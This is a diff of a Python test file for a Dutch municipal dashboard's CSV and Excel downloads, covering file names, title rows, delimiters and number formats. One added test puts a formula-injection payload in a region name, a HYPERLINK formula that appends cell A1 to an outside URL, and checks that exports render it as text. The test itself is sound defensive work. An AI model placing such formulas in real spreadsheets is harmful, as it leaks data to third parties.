@@ -75,9 +75,11 @@ def test_ward_page_shows_the_rank_under_each_method_and_whether_it_depends_on_it
     for method in ("basisjaar-index", "z-score", "min–max", "percentielrang"):
         assert f">{method}</th>" in html
     assert re.search(r"\d+ van 4\d", html)
-    csv = client.get(f"/wijk/{WARD}/?format=csv&tabel=rangen").content.decode()
-    assert csv.splitlines()[0].startswith("Conditie,")
-    assert "Sociale cohesie" in csv
+    csv_text = client.get(f"/wijk/{WARD}/?format=csv&tabel=rangen").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(csv_text), delimiter=";"))
+    assert rows[0][0].startswith("Rang van Wijk 28 Centrum")  # the title row
+    assert rows[1][0] == "Conditie"
+    assert "Sociale cohesie" in csv_text
 
 
 def test_ward_page_loads_the_breakdown_of_its_scores_as_a_section_of_its_own(scored, client):
@@ -233,8 +235,9 @@ def test_every_table_downloads_as_csv_and_json(scored, client):
             response = client.get(f"{url}{joiner}format=csv&tabel={table}")
             assert response.status_code == 200, (url, table)
             assert response["Content-Type"].startswith("text/csv")
-            rows = list(csv.reader(io.StringIO(response.content.decode())))
-            assert len(rows) >= 2, (url, table)
+            text = response.content.decode("utf-8-sig")
+            rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+            assert len(rows) >= 3, (url, table)  # title, header, at least one row
             data = json.loads(client.get(f"{url}{joiner}format=json&tabel={table}").content)
             assert data["tables"][table]["rows"], (url, table)
     assert client.get("/gemeente/GM0518/?format=csv&tabel=bestaat-niet").status_code == 404
@@ -246,7 +249,9 @@ def test_a_table_downloads_as_an_excel_workbook_with_numbers_as_numbers(scored, 
     response = client.get("/gemeente/GM0518/?periode=2019&format=xlsx&tabel=scorekaart")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    assert 'filename="GM0518-scorekaart.xlsx"' in response["Content-Disposition"]
+    assert (
+        'filename="GM0518-scorekaart-wijken-2019-basisjaar.xlsx"' in response["Content-Disposition"]
+    )
     sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][0].startswith("Scorekaart")
@@ -256,6 +261,79 @@ def test_a_table_downloads_as_an_excel_workbook_with_numbers_as_numbers(scored, 
     assert rows[-1][0].startswith("Bron: CBS")
     html = _html(client.get("/gemeente/GM0518/"))
     assert "format=xlsx&amp;tabel=scorekaart" in html
+
+
+def test_downloads_name_the_method_period_and_level_in_file_name_and_title_row(scored, client):
+    import openpyxl
+
+    def download(query: str):
+        response = client.get(f"/gemeente/GM0518/?periode=2019&{query}&tabel=scorekaart")
+        assert response.status_code == 200, query
+        return response
+
+    base_year = download("format=xlsx")
+    percentile = download("methode=percentiel&format=xlsx")
+    assert (
+        'filename="GM0518-scorekaart-wijken-2019-basisjaar.xlsx"'
+        in (base_year["Content-Disposition"])
+    )
+    assert (
+        'filename="GM0518-scorekaart-wijken-2019-percentiel.xlsx"'
+        in (percentile["Content-Disposition"])
+    )
+    titles = [
+        openpyxl.load_workbook(io.BytesIO(r.content)).active["A1"].value
+        for r in (base_year, percentile)
+    ]
+    assert titles[0].endswith(
+        "wijken, 2019, methode: Index t.o.v. basisjaar (100 = gemiddelde, 10 = 1 sd)"
+    )
+    assert titles[1].endswith("wijken, 2019, methode: percentielrang binnen de periode")
+
+    buurten = download("niveau=buurt&methode=zscore&format=csv")
+    assert 'filename="GM0518-scorekaart-buurten-2019-zscore.csv"' in buurten["Content-Disposition"]
+    title = next(csv.reader(io.StringIO(buurten.content.decode("utf-8-sig")), delimiter=";"))
+    assert title[0].endswith("buurten, 2019, methode: z-score binnen de periode")
+
+    ward = client.get(f"/wijk/{WARD}/?periode=2019&methode=minmax&format=csv&tabel=radar")
+    assert f'filename="{WARD}-radar-wijk-2019-minmax.csv"' in ward["Content-Disposition"]
+    # An indicator's values do not depend on a scoring method: its downloads name none.
+    indicator = client.get(
+        "/indicator/sez_laag_inkomen/?gemeente=GM0518&periode=2019&format=csv&tabel=kaart"
+    )
+    assert 'filename="sez_laag_inkomen-kaart-wijken-2019.csv"' in indicator["Content-Disposition"]
+
+
+def test_a_region_named_like_a_formula_downloads_as_text_not_as_a_formula(scored, client):
+    import openpyxl
+
+    hostile = '=HYPERLINK("http://x?d="&A1,"Klik")'
+    Region.objects.filter(code=WARD).update(name=hostile)
+    url = "/gemeente/GM0518/?periode=2019&tabel=scorekaart&format="
+    rows = list(
+        csv.reader(io.StringIO(client.get(url + "csv").content.decode("utf-8-sig")), delimiter=";")
+    )
+    assert ["'" + hostile] in [row[:1] for row in rows]
+    assert not any(cell.startswith("=") for row in rows for cell in row)
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url + "xlsx").content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_excel_shows_counts_and_percentages_with_the_decimals_of_the_screen(scored, client):
+    import openpyxl
+
+    response = client.get(f"/wijk/{WARD}/?format=xlsx&tabel=context")
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    header = [cell.value for cell in sheet[2]]
+    value, unit = header.index("Waarde"), header.index("Eenheid")
+    formats: dict[str, set[str]] = {}
+    for row in sheet.iter_rows(min_row=3):
+        if isinstance(row[value].value, int | float):
+            formats.setdefault(row[unit].value, set()).add(row[value].number_format)
+    assert formats["aantal"] == {"#,##0"}  # 5490 shows as "5.490", not "5490,0"
+    assert formats.get("%", {"#,##0.0"}) == {"#,##0.0"}
 
 
 def test_empty_state_without_scores_says_what_to_do(demo, client):
